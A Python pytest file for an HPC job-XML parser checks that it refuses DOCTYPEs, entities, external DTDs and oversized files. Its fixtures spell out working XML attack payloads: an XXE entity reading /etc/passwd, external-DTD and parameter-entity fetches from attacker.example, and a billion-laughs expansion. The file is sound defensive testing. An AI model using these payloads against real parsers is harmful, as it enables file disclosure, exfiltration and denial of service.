"""Untrusted job XML: DOCTYPEs, entities, external DTDs and huge files are refused."""

from __future__ import annotations

import pytest

from hpcspec.hpcpack import jobxml
from hpcspec.hpcpack.jobxml import safe

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE Job [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Job Name="&xxe;"/>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Job SYSTEM "http://attacker.example/evil.dtd">
<Job Name="x"/>"""
BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol">
<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>
<Job Name="&lol4;"/>"""
PARAMETER_ENTITY = b"""<!doctype Job [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]><Job/>"""


@pytest.mark.parametrize(
    "payload",
    [XXE, EXTERNAL_DTD, BILLION_LAUGHS, PARAMETER_ENTITY, b"<!DOCTYPE Job><Job/>"],
    ids=["xxe", "external-dtd", "billion-laughs", "parameter-entity", "bare-doctype"],
)
def test_documents_with_a_doctype_are_refused_with_a_clear_error(payload: bytes) -> None:
    with pytest.raises(jobxml.JobXmlError) as error:
        jobxml.parse(payload, source="evil.xml")
    assert "DOCTYPE" in error.value.message
    assert error.value.render().startswith("evil.xml: error: ")
    assert error.value.hint and "remove it" in error.value.hint


def test_a_doctype_in_utf16_is_refused_too() -> None:
    with pytest.raises(jobxml.JobXmlError, match="DOCTYPE"):
        jobxml.parse(XXE.decode().encode("utf-16"), source="evil.xml")


def test_undeclared_entities_are_an_error_not_expanded() -> None:
    with pytest.raises(jobxml.JobXmlError, match="not well formed"):
        jobxml.parse(b'<Job Name="&xxe;"/>', source="evil.xml")


def test_files_over_the_size_cap_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(safe, "MAX_JOB_XML_BYTES", 100)
    with pytest.raises(jobxml.JobXmlError, match="limit is 100"):
        jobxml.parse(b"<Job>" + b" " * 200 + b"</Job>", source="big.xml")


def test_malformed_xml_names_the_file() -> None:
    with pytest.raises(jobxml.JobXmlError) as error:
        jobxml.parse(b"<Job><Tasks></Job>", source="broken.xml")
    assert error.value.render().startswith("broken.xml: error: the job XML is not well formed")
